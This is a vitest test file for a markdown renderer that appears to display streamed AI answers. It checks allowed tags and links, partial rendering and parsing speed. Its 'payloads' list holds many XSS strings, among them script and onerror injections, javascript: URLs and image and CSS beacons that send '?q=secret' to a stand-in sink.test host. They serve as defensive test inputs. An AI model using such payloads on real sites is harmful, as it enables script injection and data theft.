import type { ComponentChildren, VNode } from "preact"
import { describe, expect, test } from "vitest"
import { linkResolver } from "./links.ts"
import { neutralize, parseMarkdown } from "./markdown.ts"
import { Prose } from "./prose.tsx"

const cited = "https://docs.example.org/returns?lang=en#top"
const resolveLink = linkResolver(["https://shop.example.com"], [cited, "javascript:alert(1)", null])

type Element = { tag: string; props: Record<string, unknown>; text: string }

/** Renders for real, down to the tags: every element, and the whole visible text. */
function render(markdown: string, isPartial = false): { elements: Element[]; text: string } {
  const blocks = parseMarkdown(markdown, {
    isPartial,
    resolveLink,
    hasCitation: (number) => number <= 2,
  })
  const elements: Element[] = []
  const walk = (node: ComponentChildren): string => {
    if (node === null || node === undefined || typeof node === "boolean") return ""
    if (Array.isArray(node)) return node.map(walk).join("")
    if (typeof node !== "object") return String(node)
    const { type, props } = node as VNode<Record<string, unknown>>
    if (typeof type === "function") return walk((type as (p: unknown) => ComponentChildren)(props))
    const { children, ...rest } = props
    const element = { tag: type, props: rest, text: "" }
    elements.push(element)
    element.text = walk(children as ComponentChildren)
    return type === "br" ? "\n" : element.text
  }
  const text = walk(
    <Prose
      blocks={blocks}
      renderMark={(number) => <button type="button">{number}</button>}
      renderAfter={() => null}
    />,
  )
  return { elements, text }
}

const tags = (markdown: string, isPartial = false) =>
  render(markdown, isPartial).elements.map(({ tag }) => tag)
const links = (markdown: string) => render(markdown).elements.filter(({ tag }) => tag === "a")

const allowedTags = new Set(
  "p h2 h3 pre code blockquote hr ul ol li div table thead tbody tr th td br strong em s a button span".split(
    " ",
  ),
)
const allowedProps: Record<string, string[]> = {
  a: ["href", "target", "rel"],
  ol: ["start", "dir"],
  pre: ["dir", "tabIndex"],
  div: ["class", "tabIndex"],
  span: ["class"],
  button: ["type"],
}

const payloads = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<style>body{background:url(https://sink.test/?q=1)}</style>",
  "<form action=https://sink.test><input name=q></form>",
  "<base href=https://sink.test/>",
  '<a href="javascript:alert(1)">x</a>',
  "<details open ontoggle=alert(1)>",
  '<link rel=prefetch href="https://sink.test/">',
  '<meta http-equiv=refresh content="0;url=https://sink.test">',
  '<img srcset="https://sink.test/1 1x">',
  "<br onclick=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "![x](https://sink.test/?q=secret)",
  "![x][ref]\n\n[ref]: https://sink.test/?q=secret",
  "[![x](https://sink.test/a.png)](https://sink.test/b)",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox)",
  "[x](blob:https://shop.example.com/1)",
  "[x](file:///etc/passwd)",
  "[x](//sink.test/a)",
  "[x](/api/embed/session)",
  "[x](https://shop.example.com@sink.test/)",
  "[x](https://user:pw@shop.example.com/)",
  "[x](https://shop.example.com.sink.test/)",
  "[x](http://shop.example.com/)",
  "[x](https://sink.test/?q=secret 'title')",
  "<https://sink.test/?q=secret>",
  "https://sink.test/?q=secret",
  "<javascript:alert(1)>",
  "```html\n<script>alert(1)</script>\n```",
  "`<script>alert(1)</script>`",
  "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:alert(1)) | ![y](https://sink.test) |",
  "# <img src=x onerror=alert(1)>",
  "> <script>alert(1)</script>",
  "- <script>alert(1)</script>",
  "[1](javascript:alert(1))",
  "[99]",
]

describe.each(payloads)("hostile answer %j", (payload) => {
  test.each([
    ["alone", payload],
    ["in a sentence", `Before ${payload} after`],
    ["in emphasis", `**${payload}**`],
  ])("%s: only allowed tags and attributes, and no link", (_, markdown) => {
    for (const isPartial of [false, true])
      for (const { tag, props } of render(markdown, isPartial).elements) {
        expect(allowedTags).toContain(tag)
        expect(tag).not.toBe("a")
        const allowed = allowedProps[tag] ?? ["dir"]
        for (const name of Object.keys(props)) expect(allowed, `${tag} ${name}`).toContain(name)
      }
  })

  test("cut anywhere, as it streams in, it stays harmless", () => {
    for (let end = 1; end < payload.length; end++)
      for (const tag of tags(payload.slice(0, end), true)) {
        expect(allowedTags).toContain(tag)
        expect(tag).not.toBe("a")
      }
  })
})

describe("links", () => {
  test.each([
    ["[prices](https://shop.example.com/prices)", "https://shop.example.com/prices"],
    ["[prices](https://SHOP.example.com:443/prices)", "https://shop.example.com/prices"],
    [`[returns](${cited})`, cited],
    ["https://shop.example.com/a?b=c.", "https://shop.example.com/a?b=c"],
    // A backslash is a slash to browsers, so this stays on the shop's own site.
    ["[x](https://shop.example.com\\@sink.test/)", "https://shop.example.com/@sink.test/"],
    ["<https://shop.example.com/a>", "https://shop.example.com/a"],
    ["[wiki](https://shop.example.com/a_(b))", "https://shop.example.com/a_(b)"],
  ])("%s is one", (markdown, href) => {
    expect(links(markdown).map(({ props }) => props.href)).toEqual([href])
  })

  test("every link opens outside, tells nothing and endorses nothing", () => {
    const [link] = links("[a](https://shop.example.com/)")
    expect(link!.props).toMatchObject({ target: "_blank", rel: "noopener noreferrer nofollow" })
  })

  test("a cited page allows exactly that page, not its site", () => {
    expect(links("[x](https://docs.example.org/elsewhere)")).toEqual([])
  })

  test("a refused link keeps its words", () => {
    expect(render("See [our **offer**](https://sink.test/x) today.").text).toBe(
      "See our offer today.",
    )
  })
})

describe("reading", () => {
  test.each([
    ["**bold** and *it* and `co*de*`", ["p", "strong", "em", "code"]],
    ["***both***", ["p", "strong", "em"]],
    ["**a *b* c**", ["p", "strong", "em"]],
    ["snake_case_name and 2*3*4", ["p", "em"]],
    ["~~old~~", ["p", "s"]],
    ["1. a\n2. b\n   - c\n\n3. d", ["ol", "li", "li", "ul", "li", "li"]],
    ["* a\n* b", ["ul", "li", "li"]],
    ["Intro:\n- a\n- b\n\nafter", ["p", "ul", "li", "li", "p"]],
    ["## Title\ntext", ["h2", "p"]],
    ["a\nb", ["p", "br"]],
    ["a<br>b<br/>c", ["p", "br", "br"]],
    ["---", ["hr"]],
    ["> q\n> r", ["blockquote", "p", "br"]],
    ["```js\nlet a\n\nlet b\n```\nafter", ["pre", "code", "p"]],
    [
      "| a | b |\n|---|:-:|\n| 1 | `x|y` |",
      "div table thead tr th th tbody tr td td code".split(" "),
    ],
    ["2 * 3 * 4 and a | b", ["p"]],
  ])("%j", (markdown, expected) => {
    expect(tags(markdown)).toEqual(expected)
  })

  test("ordered lists keep their first number", () => {
    expect(render("3. c\n4. d").elements[0]!.props.start).toBe(3)
  })

  test("marks become buttons only where there is such a source", () => {
    expect(
      tags("Two days [1], mostly [1, 2][2] [7].").filter((tag) => tag === "button"),
    ).toHaveLength(4)
    expect(render("See [7].").text).toBe("See [7].")
    expect(render("Two days [1].").text).toBe("Two days1.")
  })

  test("escaped syntax is shown, not used", () => {
    expect(render("\\*not\\* \\[1\\]")).toMatchObject({ text: "*not* [1]" })
  })
})

describe("half an answer", () => {
  test.each([
    ["This is **bo", "This is bo", "strong"],
    ["This is **", "This is ", null],
    ["Use `npm", "Use npm", "code"],
    ["See [our pa", "See our pa", null],
    ["See [our page](https://shop.exam", "See our page", null],
    ["Two days [1", "Two days ", null],
    ["| Job | Price |", "JobPrice", "table"],
    ["| Job | Price |\n| --", "JobPrice", "table"],
    ["```\ncode", "code", "pre"],
  ])("%j shows no syntax", (markdown, text, tag) => {
    const found = render(markdown, true)
    expect(found.text).toBe(text)
    if (tag) expect(found.elements.map((element) => element.tag)).toContain(tag)
  })

  test("an earlier stray mark is not closed by the end of a later block", () => {
    expect(tags("5 ** 3\n\nnext", true)).toEqual(["p", "p"])
  })
})

test("deceptive characters are dropped, the visible text stays", () => {
  expect(neutralize("a\u202Eb\u{E0041}c\u0007d\r\ne")).toBe("abcd\ne")
})

test.each([
  ["brackets", "[".repeat(30_000)],
  ["stars", "*a ".repeat(20_000)],
  ["star runs", "*".repeat(50_000)],
  ["underscores", "_a".repeat(25_000)],
  ["backticks", "` `` ".repeat(12_000)],
  ["quotes", ">".repeat(30_000)],
  [
    "nested lists",
    Array.from({ length: 2_000 }, (_, depth) => `${" ".repeat(Math.min(depth * 2, 60))}- a`).join(
      "\n",
    ),
  ],
  ["pipes", "|a\n\n".repeat(12_000)],
  ["heading of spaces", `# ${" ".repeat(50_000)}x`],
  ["blank lines in a list", `- a\n${"\n".repeat(50_000)}b`],
  ["links", "[a](".repeat(15_000)],
  ["images", "![".repeat(25_000)],
  ["urls", "https://".repeat(7_000)],
  ["angles", "<https://".repeat(6_000)],
  ["table rule", `a|b\n${"-|".repeat(25_000)}`],
])("%s by the ten thousand do not make it slow", (_, markdown) => {
  // What is quadratic takes minutes at these sizes; the bound leaves room for a busy machine.
  const started = performance.now()
  parseMarkdown(markdown, { isPartial: true, resolveLink, hasCitation: () => true })
  expect(performance.now() - started).toBeLessThan(4_000)
})
